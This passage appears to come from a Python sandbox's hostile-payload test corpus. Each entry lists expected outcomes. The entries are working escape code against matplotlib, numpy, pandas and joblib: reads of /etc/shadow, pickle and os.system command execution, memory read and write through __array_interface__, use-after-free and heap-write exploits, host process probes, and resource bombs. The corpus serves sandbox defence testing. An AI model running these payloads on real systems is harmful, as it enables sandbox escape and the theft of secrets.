            anim = animation.FuncAnimation(fig, lambda i: [], frames=2)
            anim.save("/tmp/pysandbox-hostile.mp4", writer="ffmpeg")
        """, on={VALIDATOR}, off={SECCOMP, DENIED, EXCEPTION}),
    Payload("mpl-gui-backend", """
        import matplotlib.pyplot as plt
        def main():
            plt.switch_backend("TkAgg")
            plt.figure()
        """, on={EXCEPTION}, off={SECCOMP, DENIED, EXCEPTION, CRASH}),
    # FT2Font opens a path with the builtins' open of the calling frame:
    # the sandbox's builtins had none, and the child crashed (SIGSEGV)
    Payload("mpl-font-reads-secrets", """
        from matplotlib import ft2font
        def main():
            return ft2font.FT2Font("/etc/shadow").family_name
        """, on={VALIDATOR, DENIED}, off={DENIED, EXCEPTION}),
    Payload("mpl-font-class-from-a-font", """
        import matplotlib.font_manager as fm
        def main():
            font = fm.get_font(fm.findfont("DejaVu Sans"))
            return type(font)("/etc/passwd").family_name
        """, on={GUARD, DENIED}, off={DENIED, EXCEPTION}),
    Payload("mpl-font-class-from-mathtext", """
        from matplotlib.mathtext import MathTextParser
        def main():
            glyph = MathTextParser("path").parse("$x$").glyphs[0]
            return type(glyph[0])("/etc/passwd").family_name
        """, on={GUARD}, off={DENIED, EXCEPTION}),
    # the rest of matplotlib 3.6's native code that trusts its arguments,
    # found by a review: each gave the child's memory to the code, or
    # crashed it; with the Python layer off the OS layers hold whatever
    # the corrupted process does
    Payload("mpl-ft2image-memoryview-escape", """
        from matplotlib.mathtext import FT2Image
        from matplotlib import cbook
        def main():
            mv = memoryview(FT2Image(2**32, 2**32))
            def peek(addr):
                return int.from_bytes(bytes(mv[(addr + i) >> 32, (addr + i) & 0xffffffff]
                                            for i in range(8)), "little")
            return peek(id(cbook.to_filehandle) + 16)
        """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-font-image-use-after-free", """
        from matplotlib import font_manager
        def main():
            font = font_manager.get_font(font_manager.findfont("DejaVu Sans"))
            font.set_size(12, 72)
            font.set_text("a", 0.0)
            font.draw_glyphs_to_bitmap()
            arr = font.get_image()
            font.set_text("W" * 400, 0.0)
            font.draw_glyphs_to_bitmap()
            arr[:] = 0x41
            return 1
        """, on={VALIDATOR}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-resample-unchecked-mesh", """
        import numpy as np
        from matplotlib import image
        class Inv:
            def transform(self, mesh):
                return np.zeros((1, 2))
        class T:
            is_affine = False
            def inverted(self):
                return Inv()
        def main():
            out = np.zeros((4000, 4000))
            image.resample(np.zeros((10, 10)), out, T(), image.BILINEAR)
            return float(out.sum())
        """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-renderer-quad-mesh", """
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.transforms import Affine2D
        def main():
            renderer = plt.figure(figsize=(2, 2), dpi=50).canvas.get_renderer()
            renderer.draw_quad_mesh(renderer.new_gc(), Affine2D(), 3000, 3000,
                                    np.zeros((2, 2, 2)), np.zeros((1, 2)), Affine2D(),
                                    np.ones((1, 4)), False, np.zeros((0, 4)))
        """, on={DENIED}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-renderer-from-an-artist", """
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.artist import Artist
        from matplotlib.transforms import Affine2D
        class Sneaky(Artist):
            def draw(self, renderer):
                renderer.draw_quad_mesh(renderer.new_gc(), Affine2D(), 3000, 3000,
                                        np.zeros((2, 2, 2)), np.zeros((1, 2)), Affine2D(),
                                        np.ones((1, 4)), False, np.zeros((0, 4)))
        def main():
            fig = plt.figure(figsize=(2, 2), dpi=50)
            fig.add_artist(Sneaky())
            return fig
        """, on={DENIED}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-copy-from-bbox-overflow", """
        import matplotlib.pyplot as plt
        from matplotlib.transforms import Bbox
        def main():
            fig = plt.figure(figsize=(1, 1), dpi=100)
            fig.canvas.draw()
            fig.canvas.copy_from_bbox(Bbox([[0, 0], [65536, 16384]]))
        """, on={DENIED}, off={OK, CRASH, EXCEPTION, MEMORY}),
    # matplotlib's Python surface (review rev1): the original
    # validate_cycler kept in matplotlib.defaultParams eval()'d any string
    Payload("mpl-default-params-cycler-eval", """
        import matplotlib
        def main(canary_tmp):
            box = []
            check = matplotlib.defaultParams["axes.prop_cycle"][1]
            walk = ("[(g := (g.gi_frame.f_back.f_back.f_back for _ in [0])),"
                    " [f.f_back.f_locals['box'].append(f.f_globals['_' '_builtins_' '_'])"
                    " for f in g]]")
            try:
                check(walk)
            except ValueError:
                pass
            return box[0]["open"](canary_tmp).read()
        """, on={EXCEPTION}, off={DENIED, EXCEPTION}),
    # savefig(backend="module://os") imports os and looks FigureCanvas up
    # on it: the AttributeError keeps the real module as .obj, and a
    # CallbackRegistry's exception_handler gets the exception unchecked
    Payload("mpl-callback-handler-gets-module", """
        import io
        import matplotlib.pyplot as plt
        from matplotlib import cbook
        def main(canary_tmp):
            got = []
            fig = plt.figure(figsize=(1, 1), dpi=10)
            def boom():
                fig.savefig(io.BytesIO(), format="png", backend="module://os")
            reg = cbook.CallbackRegistry(exception_handler=got.append)
            reg.connect("go", boom)
            reg.process("go")
            os = got[0].obj
            return os.read(os.open(canary_tmp, os.O_RDONLY), 200).decode()
        """, on={EXCEPTION}, off={DENIED}),
    # the except-guard's rewrite sees __exit__(self, t, e, tb) only: a
    # decorator's wrapper (or a staticmethod, or *exc) gets the exception
    Payload("exit-decorator-gets-attribute-error-object", """
        import io
        import matplotlib.pyplot as plt
        box = []
        def keep(method):
            def wrapper(*args):
                box.append(args[2])
                return True
            return wrapper
        class Catch:
            def __enter__(self):
                return self
            @keep
            def __exit__(self, t, e, tb):
                return True
        def main(canary_tmp):
            fig = plt.figure(figsize=(1, 1), dpi=10)
            with Catch():
                fig.savefig(io.BytesIO(), format="png", backend="module://os")
            os = box[-1].obj
            return os.read(os.open(canary_tmp, os.O_RDONLY), 200).decode()
        """, on={EXCEPTION}, off={DENIED}),
    Payload("exit-varargs-gets-attribute-error-object", """
        import io
        import matplotlib.pyplot as plt
        class Catch:
            def __enter__(self):
                return self
            def __exit__(self, *exc):
                self.caught = exc[1]
                return True
        def main(canary_tmp):
            fig = plt.figure(figsize=(1, 1), dpi=10)
            c = Catch()
            with c:
                fig.savefig(io.BytesIO(), format="png", backend="module://os")
            os = c.caught.obj
            return os.read(os.open(canary_tmp, os.O_RDONLY), 200).decode()
        """, on={EXCEPTION}, off={DENIED}),
    # matplotlib hands out open files of any path (its own open())
    Payload("mpl-get-sample-data-reads", """
        from matplotlib import cbook
        def main(canary_tmp):
            return cbook.get_sample_data(canary_tmp).read()
        """, on={GUARD}, off={DENIED}),
    Payload("mpl-open-file-cm-reads", """
        from matplotlib import cbook
        def main(canary_tmp):
            with cbook.open_file_cm(canary_tmp) as f:
                return f.read()
        """, on={GUARD}, off={DENIED}),
    Payload("mpl-to-filehandle-fileio-class", """
        from matplotlib import cbook
        def main(canary_tmp):
            f = cbook.to_filehandle("/usr/lib/python3/dist-packages/matplotlib/__init__.py")
            return type(f.buffer.raw)(canary_tmp).read()
        """, on={GUARD}, off={DENIED}),
    # rc files and styles by path: the lines matplotlib cannot parse are
    # quoted in its warnings and errors
    Payload("mpl-rc-file-quotes-lines", """
        import matplotlib
        def main(canary_tmp):
            return repr(matplotlib.rc_params_from_file(canary_tmp, use_default_template=False))
        """, on={GUARD}, off={DENIED, EXCEPTION}),
    # another backend's canvas class by name: pgf's print_pdf makes a
    # directory and runs LaTeX
    Payload("mpl-registered-canvas-pgf", """
        import io
        import matplotlib.pyplot as plt
        from matplotlib import backend_bases
        def main():
            cls = backend_bases.get_registered_canvas_class("pgf")
            cls(plt.figure()).print_pdf(io.BytesIO())
        """, on={GUARD}, off={SECCOMP, DENIED, EXCEPTION}),
    Payload("mpl-cycler-eval-walks-frames", """
        import matplotlib.pyplot as plt
        def main():
            box = []
            walk = ("[(g := (g.gi_frame.f_back.f_back.f_back for _ in [0])),"
                    " [f.f_back.f_back.f_locals['box'].append(f.f_globals) for f in g]]")
            plt.rcParams["axes.prop_cycle"] = walk
            return box[0]["os"].getcwd()
        """, on={EXCEPTION}, off={OK, EXCEPTION}),
    Payload("mpl-lazy-native-code", """
        import io
        import matplotlib.pyplot as plt
        def main():
            fig = plt.figure()
            fig.savefig(io.BytesIO(), format="pgf")
        """, on={EXCEPTION}, off={OK, SECCOMP, DENIED, EXCEPTION}),
    Payload("mpl-register-backend", """
        import io
        import matplotlib.pyplot as plt
        from matplotlib.backend_bases import register_backend
        def main():
            register_backend("x", "matplotlib.backends.backend_tkagg")
            plt.figure().savefig(io.BytesIO(), format="x")
        """, on={GUARD}, off={SECCOMP, DENIED, EXCEPTION}),
    Payload("mpl-pandas-plotting-backend", """
        import pandas as pd
        def main():
            pd.set_option("plotting.backend", "matplotlib.backends.backend_tkagg")
            pd.DataFrame({"a": [1, 2]}).plot()
        """, on={EXCEPTION}, off={SECCOMP, DENIED, EXCEPTION}),
    # a second review: library functions that take attribute names as
    # strings, which the validator never sees, and library frames between
    # user code and the renderer's native code
    Payload("functools-update-wrapper-globals", """
        import functools
        import random
        def main():
            functools.update_wrapper(main, random.shuffle, assigned=(), updated=("__globals__",))
            return probe()
        def probe():
            return _os.listdir("/")[:3]
        """, on={GUARD}, off={OK, EXCEPTION, DENIED}),
    Payload("functools-wraps-globals", """
        import functools
        import random
        def main():
            functools.wraps(random.shuffle, assigned=(), updated=("__globals__",))(main)
            return probe()
        def probe():
            return _os.listdir("/")[:3]
        """, on={GUARD}, off={OK, EXCEPTION, DENIED}),
    Payload("dataclass-array-interface", """
        import dataclasses
        import numpy as np
        def main():
            bad = {"shape": (8,), "typestr": "|u1", "data": (4096, False), "version": 3}
            D = dataclasses.make_dataclass("D", [("__array_interface__", dict,
                                                  dataclasses.field(default_factory=lambda: bad))])
            return np.asarray(D()).tolist()
        """, on={GUARD}, off={CRASH, EXCEPTION, OK}),
    Payload("dataclass-dunder-namespace", """
        import dataclasses
        def main():
            D = dataclasses.make_dataclass("D", ["x"], namespace={"__len__": lambda self: 5})
            return len(D(1))
        """, on={GUARD}, off={OK}),
    Payload("pandas-accessor-array-interface", """
        import numpy as np
        import pandas as pd
        def main():
            def interface(frame):
                return {"shape": (8,), "typestr": "|u1", "data": (4096, False), "version": 3}
            pd.api.extensions.register_dataframe_accessor("__array_interface__")(interface)
            return np.asarray(pd.DataFrame({"a": [1]})).tolist()
        """, on={GUARD}, off={CRASH, EXCEPTION, OK}),
    # a third review: more library functions taking names as strings
    Payload("singledispatch-computed-annotation", """
        import functools
        def main():
            out = []
            expr = "out.append(().__class" + "__.__base__) or int"
            @functools.singledispatch
            def f(x):
                return 0
            def g(x: expr):
                return 1
            f.register(g)
            return str(out)
        """, on={EXCEPTION}, off={OK, EXCEPTION}),
    Payload("enum-global-enum-policy-tables", """
        import enum
        def main():
            E = enum.Enum("E", [("FORBIDDEN_ATTRIBUTES", ())], module="sb_guard", type=dict)
            enum.global_enum(E)
            return "patched"
        """, on={EXCEPTION, GUARD}, off={OK, EXCEPTION}),
    Payload("numpy-reexported-methodcaller", """
        import random
        import numpy as np
        def main():
            mc = getattr(np.lib.npyio, "methodcaller")
            name = "__getattri" + "bute__"
            func = mc(name, "__fu" + "nc__")(random.randrange)
            return sorted(mc(name, "__glo" + "bals__")(func))[:3]
        """, on={GUARD}, off={OK, EXCEPTION}),
    Payload("enum-dunder-member", """
        import enum
        import numpy as np
        def main():
            bad = {"shape": (8,), "typestr": "|u1", "data": (4096, False), "version": 3}
            E = enum.Enum("E", {"A": 1, "__array_interface__": bad})
            return np.asarray(E.A).tolist()
        """, on={GUARD}, off={CRASH, EXCEPTION, OK}),
    Payload("cached-property-renamed", """
        import functools
        import numpy as np
        class C:
            @functools.cached_property
            def x(self):
                return {"shape": (8,), "typestr": "|u1", "data": (4096, False), "version": 3}
        def main():
            C.x.attrname = "__array_inter" + "face__"
            c = C()
            c.x
            return np.asarray(c).tolist()
        """, on={GUARD}, off={CRASH, EXCEPTION, OK}),
    Payload("pandas-baseindexer-kwargs", """
        import numpy as np
        from pandas.api.indexers import BaseIndexer
        def main():
            bad = {"shape": (8,), "typestr": "|u1", "data": (4096, False), "version": 3}
            return np.asarray(BaseIndexer(**{"__array_interface__": bad})).tolist()
        """, on={GUARD}, off={CRASH, EXCEPTION, OK}),
    Payload("pandas-agg-string-dunder", """
        import pandas as pd
        def main():
            s = pd.Series([1, 2])
            name = "__red" + "uce_ex__"
            return str(s.apply(name, args=(2,))[0])
        """, on={GUARD}, off={OK, EXCEPTION}),
    Payload("mpl-blitting-through-pandas", """
        import pandas as pd
        import matplotlib.pyplot as plt
        from matplotlib.transforms import Bbox
        def main():
            fig = plt.figure(figsize=(1, 1), dpi=100)
            fig.canvas.draw()
            renderer = fig.canvas.get_renderer()
            pd.Series([Bbox.from_extents(0, 0, 65536, 16384)]).map(renderer.copy_from_bbox)
        """, on={DENIED}, off={OK, CRASH, EXCEPTION, MEMORY}),
    Payload("mpl-quad-mesh-through-pandas", """
        import functools
        import numpy as np
        import pandas as pd
        import matplotlib.pyplot as plt
        from matplotlib.transforms import Affine2D
        def main():
            renderer = plt.figure(figsize=(2, 2), dpi=50).canvas.get_renderer()
            draw = functools.partial(renderer.draw_quad_mesh, renderer.new_gc(), Affine2D(),
                                     3000, 3000)
            pd.Series([np.zeros((2, 2, 2))]).map(
                lambda c: draw(c, np.zeros((1, 2)), Affine2D(), np.ones((1, 4)), False,
                               np.zeros((0, 4))))
        """, on={DENIED, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
    Payload("mpl-pdf-pages-path", """
        from matplotlib.backends.backend_pdf import PdfPages
        def main():
            PdfPages("/tmp/pysandbox-hostile.pdf").close()
        """, on={GUARD}, off={DENIED, SECCOMP}),
    Payload("mpl-pixel-bomb-pdf", """
        import io
        import numpy as np
        import matplotlib.pyplot as plt
        def main():
            fig = plt.figure(figsize=(20, 20), dpi=72)
            fig.add_axes([0, 0, 1, 1]).imshow(np.random.rand(8, 8))
            fig.savefig(io.BytesIO(), format="pdf", dpi=250)
        """, on={EXCEPTION}, off={EXCEPTION}),
    Payload("mpl-pixel-bomb", """
        import matplotlib.pyplot as plt
        def main():
            return plt.figure(figsize=(600, 600), dpi=100)
        """, on={EXCEPTION}, off={EXCEPTION}),
    Payload("mpl-pixel-bomb-savefig-dpi", """
        import io
        import matplotlib.pyplot as plt
        def main():
            plt.plot([1, 2])
            plt.savefig(io.BytesIO(), dpi=20000)
        """, on={EXCEPTION}, off={EXCEPTION}),
    Payload("mpl-imread-url", """
        import matplotlib.pyplot as plt
        def main():
            return plt.imread("http://127.0.0.1:1/x.png").shape
        """, on={GUARD}, off={DENIED, EXCEPTION, SECCOMP}),
    Payload("struct-unpack-is-only-bytes", """
        import struct
        def main():
            raw = struct.pack("=Qd", 2**64 - 1, 1.5)
            return list(struct.unpack("=Qd", raw))
        """, on={OK}, off={OK}),
    Payload("memory-np-ones", """
        import numpy as np
        def main():
            return float(np.ones(10**10).sum())
        """, on={MEMORY}, off={MEMORY}, options={"memory_mb": 128}),
    Payload("memory-growing-list", """
        def main():
            x = []
            while True:
                x.append("x" * 1000000)
        """, on={MEMORY, CRASH}, off={MEMORY, CRASH}, options={"memory_mb": 128}),
    Payload("memory-dataframe", """
        import numpy as np
        import pandas as pd
        def main():
            return pd.DataFrame(np.zeros((10**5, 10**4))).shape
        """, on={MEMORY}, off={MEMORY}, options={"memory_mb": 128}),
    Payload("cpu-loop-cpu-limit", """
        def main():
            while True:
                pass
        """, on={CPU}, off={CPU}, options={"cpu_ms": 300, "timeout_ms": 5000}),
    Payload("cpu-loop-wall-limit", """
        def main():
            while True:
                pass
        """, on={TIMEOUT}, off={TIMEOUT}, options={"timeout_ms": 300}),
    # The CPU limit holds to the millisecond whatever the child does with the
    # signals it relies on: their dispositions are fixed by the filter, and
    # the worker reads each child's CPU clock itself (a blocked SIGPROF never
    # arrives; RLIMIT_CPU's SIGKILL alone came seconds late).
    Payload("cpu-loop-ignore-sigprof-sigxcpu", """
        import signal
        def main():
            signal.signal(signal.SIGPROF, signal.SIG_IGN)
            signal.signal(signal.SIGXCPU, signal.SIG_IGN)
            while True:
                pass
        """, off={SECCOMP}, options={"cpu_ms": 200, "timeout_ms": 8000}, max_ms=1500),
    Payload("cpu-loop-block-sigprof-sigxcpu", """
        import signal
        def main():
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGPROF, signal.SIGXCPU})
            while True:
                pass
        """, off={CPU}, options={"cpu_ms": 200, "timeout_ms": 8000}, max_ms=1500),
    # the signal number with bits above 32 set: the kernel reads an int, so a
    # filter comparing all 64 bits would see another number than the kernel
    ctypes_payload("cpu-loop-sigprof-ignored-high-bits", """
        class Sa(ctypes.Structure):
            _fields_ = [("handler", ctypes.c_void_p), ("flags", ctypes.c_ulong),
                        ("restorer", ctypes.c_void_p), ("mask", ctypes.c_ulong)]
        act = Sa(1, 0, None, 0)          # SIG_IGN
        for sig in (27, 24):             # SIGPROF, SIGXCPU
            check(libc.syscall(ctypes.c_long(%d), ctypes.c_long(sig | (1 << 32)),
                               ctypes.byref(act), None, ctypes.c_long(8)), "rt_sigaction")
        while True:
            pass
        """ % NR.get("rt_sigaction", -1), options={"cpu_ms": 200, "timeout_ms": 8000},
        max_ms=1500) if NR.get("rt_sigaction") else None,
    # -- other processes' state: every pid-taking call is for the child only -----
    ctypes_payload("prlimit64-read-parent-limits", """
        class Rl(ctypes.Structure):
            _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]
        old = Rl()
        libc.prlimit.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
        check(libc.prlimit(libc.getppid(), 9, None, ctypes.byref(old)), "prlimit64")
        return [old.cur, old.max]
        """),
    ctypes_payload("prlimit64-read-sentinel-limits", """
        class Rl(ctypes.Structure):
            _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]
        old = Rl()
        libc.prlimit.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
        check(libc.prlimit(target_pid, 7, None, ctypes.byref(old)), "prlimit64")
        return [old.cur, old.max]
        """, params="target_pid"),
    ctypes_payload("clock-gettime-parent-cpu-clock", """
        ts = (ctypes.c_long * 2)()
        clock = ((~libc.getppid()) << 3) | 2        # the worker's process CPU clock
        check(libc.clock_gettime(clock, ts), "clock_gettime")
        return list(ts)
        """),
    ctypes_payload("clock-getres-probe-pid-1", """
        ts = (ctypes.c_long * 2)()
        return check(libc.clock_getres(((~1) << 3) | 2, ts), "clock_getres")
        """),
    ctypes_payload("sched-getaffinity-probe-sentinel", """
        mask = (ctypes.c_ulong * 16)()
        return check(libc.sched_getaffinity(target_pid, 128, mask), "sched_getaffinity")
        """, params="target_pid"),
    # FUTEX_TRYLOCK_PI looks the word up as a thread id anywhere on the host:
    # ESRCH or EPERM says whether that pid exists
    syscall_payload("futex-trylock-pi-probe-pid", "futex",
                    "ctypes.byref(ctypes.c_uint32(1)), 8 | 128, 0, 0, 0, 0"),
    # queued signals are counted per user, across calls: none may be queued
    Payload("queue-realtime-signals", """
        import signal, threading
        def main():
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
            for i in range(1000):
                signal.pthread_kill(threading.get_ident(), signal.SIGRTMIN)
            return "queued 1000"
        """, off={DENIED}),
    # system-wide free memory and process count: a channel between two calls
    ctypes_payload("sysinfo-system-state", """
        info = (ctypes.c_char * 128)()
        check(libc.sysinfo(info), "sysinfo")
        return info.raw[:64].hex()
        """, off={DENIED}),
    # a shared futex is a channel to any process that maps the same file page
    syscall_payload("futex-shared-wake", "futex", "ctypes.byref(ctypes.c_int(0)), 1, 1, 0, 0, 0"),

    # -- metadata outside the walls: the mount namespace root hides it; Landlock
    # alone does not mediate stat, access, readlink or O_PATH opens (README)
    Payload("stat-datadir-postmaster-pid", """
        import os
        def main(data_dir):
            st = os.stat(data_dir + "/postmaster.pid")
            return [st.st_size, st.st_mtime, st.st_mode]
        """, off={DENIED}, landlock={OK}),
    Payload("stat-pg-control", """
        import os
        def main(data_dir):
            return os.stat(data_dir + "/global/pg_control").st_size
        """, off={DENIED}, landlock={OK}),
    Payload("stat-etc-shadow", """
        import os
        def main():
            st = os.stat("/etc/shadow")
            return [st.st_size, st.st_mode]
        """, off={DENIED}, landlock={OK}),
    Payload("access-canary-datadir", """
        import os
        def main(canary_data):
            if not os.access(canary_data, os.F_OK):
                raise FileNotFoundError(canary_data)
            return "exists"
        """, off={DENIED}, landlock={OK}),
    Payload("opath-open-fstat-canary", """
        import os
        def main(canary_data):
            fd = os.open(canary_data, os.O_PATH)
            return os.fstat(fd).st_size
        """, off={DENIED}, landlock={OK}),
    Payload("readlink-proc-self-exe", """
        import os
        def main():
            return os.readlink("/proc/self/exe")
        """, off={DENIED}, landlock={OK}),
    Payload("listdir-root", """
        import os
        def main():
            found = [d for d in os.listdir("/") if d in ("etc", "var", "proc", "dev", "home")]
            if found:
                return found
            raise FileNotFoundError("none of the system directories exist")
        """, off={DENIED}, landlock={DENIED}),
    # time is allowed (0.2): a sleep meets the wall-clock limit
    Payload("time-sleep", """
        import time
        def main():
            time.sleep(30)
        """, on={TIMEOUT}, off={TIMEOUT}, options={"timeout_ms": 300}),
    Payload("blocking-read-data-socket", """
        import os
        def main():
            return os.read(3, 1)
        """, off={TIMEOUT}, options={"timeout_ms": 300}),
    Payload("print-flood", """
        def main():
            for i in range(10**7):
                print("x" * 1000)
        """, on={OUTPUT}, off={OUTPUT}, options={"max_output_bytes": 100000}),
    Payload("huge-result-string", """
        def main():
            return "x" * 10**7
        """, on={OUTPUT}, off={OUTPUT}, options={"max_output_bytes": 1000000}),
    Payload("huge-result-dataframe", """
        import numpy as np
        import pandas as pd
        def main():
            return pd.DataFrame(np.zeros((10**6, 4)))
        """, on={OUTPUT}, off={OUTPUT}, options={"max_output_bytes": 1000000}),

    # -- deeply nested source and other crashers ---------------------------
    Payload("nested-parentheses", "def main():\n    return " + "(" * 10000 + "1"
            + ")" * 10000 + "\n", on={SYNTAX, VALIDATOR}, off={SYNTAX},
            bypass={EXCEPTION}),
    Payload("nested-ifs", "def main():\n" + "".join(
        " " * (i + 1) + "if True:\n" for i in range(1000))
        + " " * 1001 + "return 1\n", on={SYNTAX, VALIDATOR}, off={SYNTAX},
        bypass={EXCEPTION}),
    Payload("nested-unary-minus", "def main():\n    return " + "-" * 100000
            + "1\n", on={SYNTAX, VALIDATOR}, off={SYNTAX}, bypass={EXCEPTION, MEMORY}),
    Payload("nested-lambdas", "def main():\n    return " + "lambda: " * 5000
            + "1\n", on={SYNTAX, VALIDATOR, OK}, off={SYNTAX, OK, EXCEPTION},
            bypass={EXCEPTION, MEMORY, OK}),
    Payload("deep-result-nesting", """
        def main():
            x = []
            for i in range(100000):
                x = [x]
            return x
        """, on={EXCEPTION, CRASH}, off={EXCEPTION, CRASH}),
    Payload("recursion-c-stack", """
        def main():
            def f(n):
                return max(map(f, [n + 1]))
            return f(0)
        """, on={EXCEPTION}, off={EXCEPTION}),
    Payload("recursion-limit-raised", """
        import sys
        def main():
            sys.setrecursionlimit(10**6)
            def f(n):
                return max(map(f, [n + 1]))
            return f(0)
        """, off={CRASH, EXCEPTION, MEMORY}),
    Payload("os-abort", """
        import os
        def main():
            os.abort()
        """, off={CRASH}),

    # -- the analyst's libraries (allowed and preloaded only in CI's step
    # with test/corpus/libraries.py --conf; refused or unloadable elsewhere)
    Payload("numpy-load-pickle-os-system", """
        import io
        import numpy as np
        def main(write_dir):
            evil = b"cos\\nsystem\\n(S'touch " + write_dir.encode() + b"/pwned-pickle'\\ntR."
            return np.load(io.BytesIO(evil), allow_pickle=True)
        """, on={VALIDATOR}, off={SECCOMP}),
    Payload("sklearn-parallel-runs-in-turn", """
        from sklearn.utils.parallel import Parallel, delayed
        def main():
            return Parallel(n_jobs=4, backend="multiprocessing")(
                delayed(len)("x" * i) for i in range(6))
        """, on={VALIDATOR, OK, SECCOMP}, off={OK, SECCOMP}),
    Payload("joblib-loky-executor-os-system", """
        import os
        from joblib.externals.loky import get_reusable_executor
        def main(write_dir):
            ex = get_reusable_executor(max_workers=2)
            return ex.submit(os.system, "touch %s/pwned-loky" % write_dir).result()
        """, off={SECCOMP}),
    Payload("joblib-memory-cache-to-disk", """
        import joblib
        def main(write_dir):
            return joblib.Memory(write_dir, verbose=0).cache(len)("secret")
        """, off={SECCOMP, DENIED}),
    Payload("statsmodels-rdataset-network", """
        import statsmodels.api as sm
        def main():
            return sm.datasets.get_rdataset("mtcars").data.shape
        """, on={VALIDATOR, SECCOMP}, off={SECCOMP}),

    # vars(obj) of the code's own object handed out the object's real
    # __dict__: a key that begins with "__" set through it shadows, on the
    # instance, what libraries look up with getattr: numpy's
    # __array_interface__ (an array over any address: read and write
    # anywhere) and copy's __reduce_ex__ (then copy calls
    # arr.__setstate__(state) on an existing array: its views use freed
    # memory, refilled by a list: a fake bytearray over all memory)
    Payload("vars-update-dunder-array-interface", """
        import numpy as np
        class Box:
            pass
        def main():
            secret = b"secret-bytes-in-another-object"
            box = Box()
            vars(box).update({"_" * 2 + "array_interface" + "_" * 2: {
                "data": (id(secret) + 32, False), "shape": (len(secret),), "typestr": "|u1",
                "version": 3}})
            return bytes(np.asarray(box)).decode()
        """, off={OK, CRASH}),
    Payload("vars-subscript-dunder-array-interface-write", """
        import numpy as np
        class Box:
            pass
        def main():
            victim = "immutable string"
            box = Box()
            d = vars(box)
            d["_" * 2 + "array_interface" + "_" * 2] = {
                "data": (id(victim) + 48, False), "shape": (7,), "typestr": "|u1", "version": 3}
            np.asarray(box)[:] = np.frombuffer(b"CHANGED", dtype="u1")
            return victim
        """, off={OK, CRASH}),
    Payload("vars-ior-dunder-array-interface", """
        import numpy as np
        class Box:
            pass
        def main():
            secret = b"secret-bytes-in-another-object"
            box = Box()
            d = vars(box)
            d |= {"_" * 2 + "array_interface" + "_" * 2: {
                "data": (id(secret) + 32, False), "shape": (len(secret),), "typestr": "|u1",
                "version": 3}}
            return bytes(np.asarray(box)).decode()
        """, off={OK, CRASH}),
    Payload("vars-str-subclass-key-array-interface", """
        import numpy as np
        class K(str):
            pass
        class Box:
            pass
        def main():
            secret = b"secret-bytes-in-another-object"
            box = Box()
            vars(box).update({K("_" * 2 + "array_interface" + "_" * 2): {
                "data": (id(secret) + 32, False), "shape": (len(secret),), "typestr": "|u1",
                "version": 3}})
            return bytes(np.asarray(box)).decode()
        """, off={OK, CRASH, EXCEPTION}),
    Payload("vars-reduce-ex-ndarray-setstate-use-after-free", """
        import copy
        import struct
        import numpy as np
        class Box:
            pass
        def main():
            secret = b"secret-bytes-in-another-object"
            a = np.zeros(4096, dtype="u1")
            v = a[:]
            state = (1, (1 << 16,), np.dtype("u1"), False, bytes(1 << 16))
            box = Box()
            vars(box)["_" * 2 + "reduce_ex" + "_" * 2] = lambda proto: (lambda: a, (), state)
            copy.copy(box)                   # copy calls a.__setstate__(state): v's memory freed
            marker = "m"
            lst = [marker] * 512
            q = v.view("<u8")
            hits = [i for i in range(512) if int(q[i]) == id(marker)]
            if len(hits) < 400:
                return "list not over the freed buffer"
            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
            q[0] = id(fake) + 32
            mem = lst[0]
            addr = id(secret) + 32
            out = bytes(mem[addr:addr + len(secret)])
            q[0] = id(marker)
            return out.decode()
        """, off={OK, CRASH, EXCEPTION}),
    # groupby(key) takes any object whose .dtype is a CategoricalDtype for a
    # Categorical and, with observed=False, hands its .codes unchecked to
    # the Cython group loops: out-of-bounds heap writes of the group sums
    # (off, the write may break malloc's own records: a huge request meets
    # the memory limit, seen once in CI)
    Payload("groupby-duck-categorical-codes-heap-write", """
        import numpy as np
        import pandas as pd
        class FakeCat:
            def __init__(self, codes):
                self.dtype = pd.CategoricalDtype(["a", "b"])
                self.categories = pd.Index(["a", "b"])
                self.ordered = False
                self.codes = codes
                self.ndim = 1
                self.shape = (len(codes),)
            def __len__(self):
                return self.shape[0]
        def main():
            df = pd.DataFrame({"v": np.full(4, 1e300)})
            fake = FakeCat(np.array([0, 1, 3, 40], dtype=np.intp))
            return repr(df.groupby(fake, observed=False).sum())
        """, off={OK, CRASH, MEMORY}),
    Payload("groupby-duck-categorical-codes-far", """
        import numpy as np
        import pandas as pd
        class FakeCat:
            def __init__(self, codes):
                self.dtype = pd.CategoricalDtype(["a", "b"])
                self.categories = pd.Index(["a", "b"])
                self.ordered = False
                self.codes = codes
                self.ndim = 1
                self.shape = (len(codes),)
            def __len__(self):
                return self.shape[0]
        def main():
            df = pd.DataFrame({"v": np.arange(4.0)})
            fake = FakeCat(np.array([0, 1, 1 << 20, 1 << 20], dtype=np.intp))
            return repr(df.groupby(fake, observed=False).sum())
        """, off={OK, CRASH}),


    # review 15 (2026-12-04): duck-typed categoricals, the codes of pandas' groupby
    # functions, and public attributes of pandas' groupby/window objects
    # df.groupby(obj) with an object of the code's whose dtype is a CategoricalDtype: its public .codes become the group labels unchecked (group_sum writes out of bounds)
    Payload('groupby-duck-categorical-codes', """
        import pandas as pd
        import numpy as np
        class Fake:
            def __init__(self, far):
                self.dtype = pd.CategoricalDtype(["a", "b"])
                self.categories = self.dtype.categories
                self.ordered = False
                self.codes = np.array([0, 1, far], dtype=np.intp)
            def __len__(self):
                return 3
            def __iter__(self):
                return iter(["a", "b", "a"])
        def main(far=1 << 40):
            df = pd.DataFrame({"v": [1.0, 2.0, 3.0]})
            return str(df.groupby(Fake(far)).sum())
        """, on={GUARD}, off={CRASH, OK}),
